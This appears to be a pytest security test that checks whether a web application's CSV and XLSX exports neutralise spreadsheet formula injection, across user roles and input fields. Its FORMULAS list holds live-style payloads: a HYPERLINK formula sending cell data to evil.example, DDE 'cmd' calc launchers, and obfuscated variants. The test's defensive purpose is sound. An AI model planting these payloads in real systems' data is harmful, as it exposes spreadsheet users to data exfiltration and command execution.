"""Names that a spreadsheet would calculate, in every export that the running server offers: they come out as text."""

from __future__ import annotations

import csv
import re
import zipfile
from io import BytesIO, StringIO
from xml.etree import ElementTree

from sqlalchemy import select, update

from lab.models import Award, Organisation, Person
from tests.faults.client import Answer
from tests.faults.people import ADMIN, COMMITTEE, FINANCE, LEAD, MENTOR, OFFICER, crawl
from tests.faults.servers import PASSWORD, Server
from tests.faults.table import Figure

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", '";=1+1;"', '",=1+1,"', "=1+1\n=2+2", "%0A=1+1", "\u200b=1+1",
)  # fmt: skip
MARK = "1+"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_NUMBER = re.compile(r"[-+]?[\d.,\s]+%?")
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# What a spreadsheet takes for the start of a formula, also behind what it skips.
_CALCULATED = re.compile(r"[\s\u00a0\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]")


def _plant(server: Server) -> None:
    """Formulas where people can type: names of people, organisations and projects; what a browser says it is; addresses tried."""
    with server.rows() as session:
        for people in (Person, Organisation, Award):
            column = {Person: "name", Organisation: "legal_name", Award: "project"}[people]
            rows = list(session.scalars(select(people.id).order_by(people.id)))  # type: ignore[attr-defined]
            for n, number in enumerate(rows):
                value = FORMULAS[n % len(FORMULAS)] + (f" {n}" if people is Organisation else "")
                session.execute(update(people).where(people.id == number).values({column: value}))  # type: ignore[attr-defined]
    for n, formula in enumerate(FORMULAS):
        browser = {
            "User-Agent": formula.replace("\r", " ").replace("\n", " ").encode("utf-8").decode("latin-1").strip() or "="
        }
        client = server.client()
        client.submit("/login", {"email": f"{'=+-@'[n % 4]}1@example.org", "password": PASSWORD, "next": ""}, browser)
        client.get(f"/people/{n}?{n}==1", browser)


def _exports(server: Server) -> dict[str, Answer]:
    """Every answer that is a table to be kept: found by its content, wherever links and forms that read lead to one."""
    found = {}
    for who in (ADMIN, OFFICER, FINANCE, COMMITTEE, MENTOR, LEAD):
        client = server.enter(who)
        paths = set(crawl(client, 250)) | {
            rule.rule
            for rule in server.app.url_map.iter_rules()
            if not rule.arguments and "GET" in (rule.methods or ())
        }
        for path in sorted(path for path in paths if path != "/static"):
            answer = client.get(path)
            if answer.status == 200 and answer.kind in ("text/csv", SHEET) and not re.search(r"/files/\d+", path):
                found[f"{who} {path}"] = answer
        for rule in server.app.url_map.iter_rules():
            # An export that is noted somewhere is asked for by a form.
            if (
                "POST" in (rule.methods or ())
                and re.search("export|csv|xlsx|download", rule.rule)
                and not rule.arguments
            ):
                for kind in ("csv", "xlsx"):
                    answer = client.submit(rule.rule, {"format": kind, "kind": kind})
                    if answer.status == 200 and answer.kind in ("text/csv", SHEET):
                        found[f"{who} POST {rule.rule} {kind}"] = answer
    return found


# The amounts and sums that a plan's workbook works out are of our own making, and hold nothing that anybody typed.
_OURS = re.compile(r"""IF\(OR\(([A-Z])(\d+)="",([A-Z])\2=""\),"",\1\2\*\3\2\)|([\d.]+-\()?SUM(IF)?\([\w'!$:,"()-]+\)""")


def _csv_cells(answer: Answer) -> list[str]:
    return [cell for row in csv.reader(StringIO(answer.body.decode("utf-8-sig"), newline="")) for cell in row]


def _sheet_cells(answer: Answer) -> tuple[list[str], int]:
    """The texts of a workbook, and how many of its cells calculate."""
    texts, formulas = [], 0
    with zipfile.ZipFile(BytesIO(answer.body)) as book:
        for name in book.namelist():
            if not name.endswith(".xml"):
                continue
            tree = ElementTree.fromstring(book.read(name))
            formulas += sum(1 for cell in tree.iter(f"{_MAIN}f") if not _OURS.fullmatch(cell.text or ""))
            formulas += sum(1 for _link in tree.iter(f"{_MAIN}hyperlink"))
            texts += ["".join(item.itertext()) for item in tree.iter(f"{_MAIN}si")]
        formulas += sum("externalLink" in name or "vbaProject" in name for name in book.namelist())
    return texts, formulas


def _calculates(cell: str) -> bool:
    return bool(_CALCULATED.match(cell)) and not _NUMBER.fullmatch(cell)


def test_no_cell_of_an_export_calculates(one_server: Server, figure: Figure) -> None:
    server = one_server
    assert all(_calculates(formula) for formula in FORMULAS if not formula.startswith(('"', "%")))
    with server.rows() as session:
        kept = {
            kind: session.execute(select(kind.id, getattr(kind, name))).tuples().all()  # type: ignore[attr-defined]
            for kind, name in ((Person, "name"), (Organisation, "legal_name"), (Award, "project"))
        }
    try:
        _plant(server)
        exports = _exports(server)
    finally:
        # The other attacks know people and projects by their names.
        with server.rows() as session:
            for kind, name in ((Person, "name"), (Organisation, "legal_name"), (Award, "project")):
                for number, value in kept[kind]:
                    session.execute(update(kind).where(kind.id == number).values({name: value}))  # type: ignore[attr-defined]
    assert exports, "no export was found: neither a link nor a form leads to a table"
    wrong, tried, planted = [], 0, 0
    for where, answer in exports.items():
        if answer.kind == "text/csv":
            cells, formulas = _csv_cells(answer), 0
            wrong += [f"{where}: {cell[:60]!r}" for cell in cells if _calculates(cell)]
        else:
            cells, formulas = _sheet_cells(answer)
        wrong += [f"{where}: {formulas} cells calculate"] if formulas else []
        assert answer.headers.get("Content-Disposition", "").startswith("attachment"), where
        assert answer.headers.get("X-Content-Type-Options") == "nosniff", where
        tried += len(cells)
        planted += sum(MARK in cell for cell in cells)
    assert planted, "the formulas are in the exports, as text"
    figure(
        f"formulas: cells that calculate, {len(exports)} exports",
        tried=tried,
        wrong=wrong,
    )
